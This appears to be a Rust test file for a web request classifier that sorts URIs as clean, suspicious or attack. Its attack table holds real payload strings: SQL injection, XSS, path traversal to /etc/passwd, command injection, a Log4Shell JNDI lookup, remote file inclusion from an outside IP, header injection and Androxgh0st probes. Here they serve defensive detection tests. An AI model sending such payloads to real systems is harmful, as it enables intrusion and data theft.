use super::*;

fn level(uri: &str) -> Level {
    judge(&WebRequest {
        method: "GET",
        uri,
        ..WebRequest::default()
    })
    .level()
}

#[test]
fn requests_of_honest_visitors_are_clean() {
    for uri in [
        "/",
        "/index.html",
        "/shop/product.php?id=42&colour=dark+blue",
        "/search?q=what's+on+in+leeds",
        "/search?q=select+a+table+from+our+range",
        "/search?q=cats+%26+dogs%3B+food",
        "/login?next=https%3A%2F%2Fexample.org%2Faccount",
        "/wp-content/uploads/2026/01/photo-1024x768.jpg",
        "/api/v2/users/me?fields=id,name&sort=-created",
        "/static/js/app.min.js?v=1.2.3",
        "/news/2026/11/22/union-members-vote-or-strike",
        "/contact?name=O%27Brien&town=King%27s+Lynn",
        "/size?value=16%22+x+20%22",
        "/p/caf%C3%A9-cr%C3%A8me",
        "/search?q=where+is+my+order?",
        "/basket?code=SAVE10",
        "/admin?cmd=start",
        "/music?q='90-'99",
        "/album?dir=/images/2024",
    ] {
        let verdict = judge(&WebRequest {
            method: "GET",
            uri,
            ..WebRequest::default()
        });
        assert_eq!(verdict.level(), Level::Clean, "{uri}: {verdict:?}");
    }
}

#[test]
fn attacks_are_found_and_named() {
    for (uri, kind) in [
        ("/item?id=1%27%20OR%20%271%27=%271", Kind::Sql),
        ("/item?id=1+union+all+select+1,2,3--", Kind::Sql),
        ("/item?id=1;drop+table+users--", Kind::Sql),
        ("/q?s=%3Cscript%3Efoo%3C/script%3E", Kind::Xss),
        ("/q?s=%22%20onmouseover=%22x", Kind::Xss),
        (
            "/q?s=%253Cimg%2520src%253Dx%2520onerror%253Dy%253E",
            Kind::Xss,
        ),
        ("/static/../../../../etc/passwd", Kind::Traversal),
        ("/a?f=..%252f..%252f..%252fsecret", Kind::Traversal),
        ("/a?h=127.0.0.1;cat%20/etc/hostname", Kind::Command),
        ("/a?n=%7B%7B7*7%7D%7D", Kind::Template),
        ("/a?f=/bin/bash", Kind::Command),
        ("/a?r=!-1!-2", Kind::Command),
        ("/a?cmd=python3.11%20x", Kind::Command),
        ("/a?c=;at%202:00%20%22x%22", Kind::Command),
        ("/a?page=http?", Kind::FileInclusion),
        ("/a?page=ftp://files.example", Kind::FileInclusion),
        ("/a?m=%60,%202,%201", Kind::Sql),
        ("/a?x=a%20.%20call%20%60b%60", Kind::Xss),
        ("/a?x=$%7Bjndi:ldap://192.0.2.1/a%7D", Kind::KnownExploit),
        ("/.env", Kind::SensitiveFile),
        ("/?0x[]=androxgh0st", Kind::KnownExploit),
        ("/?0X%5B%5D=AndroxGh0st", Kind::KnownExploit),
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            Kind::KnownExploit,
        ),
        ("/a?page=http://192.0.2.9/x.txt", Kind::FileInclusion),
        ("/a?x=1%0d%0aSet-Cookie:%20a=b", Kind::Header),
        ("/a?user[$ne]=x", Kind::Query),
    ] {
        let verdict = judge(&WebRequest {
            method: "GET",
            uri,
            ..WebRequest::default()
        });
        assert!(verdict.level() >= Level::Suspicious, "{uri}: {verdict:?}");
        assert!(verdict.categories.contains(&kind), "{uri}: {verdict:?}");
    }
}

#[test]
fn scanners_name_themselves_and_browsers_do_not() {
    let judge_agent = |agent| {
        judge(&WebRequest {
            method: "GET",
            uri: "/",
            user_agent: Some(agent),
            referer: None,
        })
        .level()
    };
    assert_eq!(
        judge_agent("sqlmap/1.7 (https://example.org)"),
        Level::Suspicious
    );
    for agent in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "",
        "-",
    ] {
        assert_eq!(judge_agent(agent), Level::Clean, "{agent}");
    }
}

#[test]
fn two_kinds_together_are_an_attack() {
    assert_eq!(level("/.env?x=..%2f..%2fetc%2fpasswd"), Level::Attack);
    assert_eq!(level("/a?x=1"), Level::Clean);
}

#[test]
fn a_very_long_value_is_read_in_bounded_time() {
    let hostile = [
        "(", "'", "<", "select ", "on", "${", "..", "%25", "/*", "&#",
    ];
    for piece in hostile {
        let uri = format!("/?q={}", piece.repeat(MAX_TEXT_BYTES / piece.len()));
        let _verdict = judge(&WebRequest {
            method: "GET",
            uri: &uri,
            ..WebRequest::default()
        });
    }
}

proptest::proptest! {
    #[test]
    fn any_request_is_judged(uri in ".{0,120}", agent in ".{0,60}") {
        let request = WebRequest { method: "GET", uri: &uri, user_agent: Some(&agent), referer: Some(&uri) };
        let first = judge(&request);
        proptest::prop_assert_eq!(&first, &judge(&request));
        proptest::prop_assert_eq!(first.categories.is_empty(), first.score == 0);
        let _value = judge_value(&uri);
    }
}
